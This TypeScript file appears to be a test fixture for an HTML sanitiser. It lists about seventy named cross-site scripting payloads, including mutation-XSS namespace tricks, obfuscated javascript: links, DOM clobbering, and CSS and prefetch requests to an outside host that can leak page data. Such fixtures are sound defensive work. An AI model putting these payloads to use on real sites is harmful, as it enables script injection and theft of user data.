/** What the payloads are made with. */
export interface Bait {
  /** A script that leaves its mark. */
  readonly run: string;
  /** Origin of a host that is none of the sources'. */
  readonly away: string;
  /** A link that is allowed. */
  readonly wiki: string;
}

/**
 * HTML that is one thing when it is read and another when it is read again, or that stands in another namespace, hides, speaks in odd encodings
 * or takes the names of what a sanitiser asks. Each named by its trick; written for these tests.
 */
export function hostileMutations({ run, away, wiki }: Bait): Readonly<Record<string, string>> {
  const image = `<img src=x onerror=${run}>`;
  const script = `javascript:${run}`;
  return {
    // Read twice
    'a formula’s text that turns into HTML': `<math><mi><b><mglyph><svg><mtext><style><path id="</style>${image}">`,
    'a formula’s comment that is a style': `<math><annotation-xml encoding="text/html"><style><!--</style>${image}--></annotation-xml></math>`,
    'a drawing’s description as a way out': `<svg><desc><svg><style><a title="</style>${image}"></style></svg></desc></svg>`,
    'a drawing’s title as a way out': `<svg><title><style><b title="</style></title>${image}"></style></title></svg>`,
    'a table that throws out its content': `<table><svg><mtext><style><!--</style>${image}--></mtext></svg></table>`,
    'a table cell in a formula': `<math><mtext><table><tr><td><mglyph><style><b title="</style>${image}">`,
    'a list item in a paragraph in a drawing': `<svg><p><style><b id="</style>${image}">`,
    'a break in a formula': `<math><br><style><b title="</style>${image}">words</b></style></math>`,
    'a text area that is cut off in an attribute': `<textarea><b title="</textarea>${image}">words`,
    'no frames that close in an attribute': `<noframes><b title="</noframes>${image}">words</b></noframes>`,
    'no embedding that closes in an attribute': `<noembed><b title="</noembed>${image}">words</b></noembed>`,
    'a frame’s text that closes in an attribute': `<iframe><b title="</iframe>${image}">words</b></iframe>`,
    'plain text without an end': `<p>words</p><plaintext>${image}`,
    'a comment that ends with a bang': `<!-- --!>${image}<!-- -->`,
    'a comment in a comment': `<!--<!-- -->${image}-->`,
    'a comment that ends at once': `<!--->${image}<!-- `,
    'bogus comments': `<!a>${image}<?b>${image}</ c>${image}`,
    'a select that drops its tags': `<select><style></select>${image}</style>`,
    'an option in a template in a select': `<select><template><option><style></template>${image}</select>`,
    'nested forms and a style': `<form><div></form><form><style></div>${image}</style>`,
    'a deep nest of formulas': `${'<math><mtext>'.repeat(120)}${image}`,
    'a deep nest of bold in links': `${'<a><b>'.repeat(120)}<style><a title="</style>${image}">`,
    // Namespaces
    'a style of a formula': `<math><style>${image}</style></math>`,
    'a script in a formula': `<math><script>${run}</script></math>`,
    'a drawing in a formula in a drawing': `<svg><math><svg><script>${run}</script></svg></math></svg>`,
    'HTML where a drawing lets it in': `<svg><foreignObject><p>words</p>${image}</foreignObject></svg>`,
    'HTML where a formula lets it in': `<math><semantics><annotation-xml encoding="application/xhtml+xml">${image}</annotation-xml></semantics></math>`,
    'an animated event': `<svg><set attributeName="onmouseover" to="${run}"/><text>words</text></svg>`,
    'an animated address': `<svg><a id="l"><text>words</text></a><animate href="#l" attributeName="href" to="${script}" begin="0s"/></svg>`,
    'a filter from elsewhere': `<svg><filter id="f"><feImage href="${away}/f.png"/></filter><text filter="url(#f)">words</text></svg>`,
    'a cursor from elsewhere': `<svg><a style="cursor:url(${away}/c.cur),auto"><text>words</text></a></svg>`,
    'a link with an old namespace': `<a xlink:href="${script}" href="${wiki}">words</a>`,
    'a base in XML': `<p xml:base="${away}/">words <a href="wiki">words</a></p>`,
    'a namespace of its own': `<p xmlns="http://www.w3.org/2000/svg" onclick="${run}">words</p><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
    'an element with a colon': `<svg:script>${run}</svg:script><html:img src=x onerror=${run}>`,
    // Templates, shadow roots, frames
    'a template in a template': `<template><template>${image}</template></template>`,
    'a closed shadow root': `<p><template shadowrootmode="closed" shadowrootserializable><style>p{}</style>${image}</template>words</p>`,
    'a slot': `<slot name="s" onslotchange="${run}"><b>words</b></slot>`,
    'a frame page in entities': `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;"></iframe>`,
    'a frame page in a drawing': `<svg><iframe srcdoc="<svg onload=parent.${run}>"></iframe></svg>`,
    'a fenced frame': `<fencedframe src="${away}/f.html"></fencedframe><portal src="${away}/p.html"></portal>`,
    'a no-script that is read as text': `<noscript><style></noscript>${image}</style>`,
    // Addresses
    'a script link over several lines': `<a href="java\nscript\r:${run}">words</a>`,
    'a script link in numbers without an end': `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:${run}">words</a>`,
    'a script link in hexadecimal': `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${run}">words</a>`,
    'a script link with named gaps': `<a href="java&Tab;scr&NewLine;ipt&colon;${run}">words</a>`,
    'a script link behind blanks of other scripts': `<a href="\u00A0\u2003\u3000javascript:${run}">words</a>`,
    'a script link with invisible letters': `<a href="java\u200Bscr\u00ADipt:${run}">words</a>`,
    'a script link in wide letters': `<a href="\uFF4A\uFF41\uFF56\uFF41script:${run}">words</a>`,
    'a script link in escapes': `<a href="%6A%61vascript:${run}">words</a>`,
    'a script link after a view': `<a href="view-source:${script}">words</a><a href="feed:${script}">words</a>`,
    'a link to data in base 64': `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==">words</a>`,
    'a link to a drawing in data': `<a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">words</a>`,
    'an image of data': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>">`,
    'two addresses on one link': `<a href="${script}" href="${wiki}" HREF="${wiki}">words</a>`,
    'a link to a host in the query': `<a href="${away}/?https://en.wikipedia.org/">words</a>`,
    'a link to a host after a line': `<a href="${away}/\nhttps://en.wikipedia.org/">words</a>`,
    'a link to a host with a full width stop': `<a href="https://en.wikipedia.org\uFF0Eelsewhere.example/">words</a>`,
    'a link into another extension': `<a href="chrome-extension://abc/options.html">words</a><a href="moz-extension://abc/x">words</a>`,
    'a link that opens another program': `<a href="mailto:a@elsewhere.example">words</a><a href="tel:112">words</a><a href="intent://x#Intent;end">words</a>`,
    // Names
    'names of a sanitiser’s questions': `<form id="x"><input name="removeChild"><input name="parentNode"><input name="setAttribute">${image}</form>`,
    'names of a node’s own fields': `<form onclick="${run}"><input name="attributes"><input name="nodeType"><input name="namespaceURI"></form>`,
    'names of the document’s fields': `<a id="cookie" name="location" href="${wiki}">words</a><img name="getElementById"><object id="currentScript"></object>`,
    'two of a name, as a collection': `<a id="config" href="${wiki}">words</a><a id="config" name="url" href="${script}">words</a>`,
    'names of prototypes': `<p id="__proto__" name="constructor" class="toString">words</p>`,
    // Events and styles
    'every gesture': `<b onpointerenter="${run}" onauxclick="${run}" onbeforeinput="${run}" onwheel="${run}" oncontextmenu="${run}">words</b>`,
    'an event that comes by itself': `<p oncontentvisibilityautostatechange="${run}" style="content-visibility:auto">words</p>`,
    'a transition that ends': `<p style="transition:color 1ms;color:red" ontransitionend="${run}" ontransitionrun="${run}">words</p>`,
    'an event with a slash and quotes': `<b title='"/onclick="'/onclick=${run}/>words</b>`,
    'an event after a line feed': `<b\n\fonclick\r=\t"${run}">words</b>`,
    'a style with an address in escapes': `<p style="background:\\75rl(${away}/s.png);behavior:url(#x);-moz-binding:url(${away}/x.xml)">words</p>`,
    'a sheet that reads attributes': `<style>a[href^="h"]{background:url(${away}/h)}</style><a href="${wiki}">words</a>`,
    'an invoker': `<button commandfor="d" command="show-modal">words</button><dialog id="d" open>words</dialog>`,
    'a link that speculates': `<script type="speculationrules">{"prefetch":[{"urls":["${away}/"]}]}</script><link rel="prerender" href="${away}/">`,
    'an address attribution reports to': `<a href="${wiki}" attributionsrc="${away}/a" referrerpolicy="unsafe-url">words</a>`,
  };
}
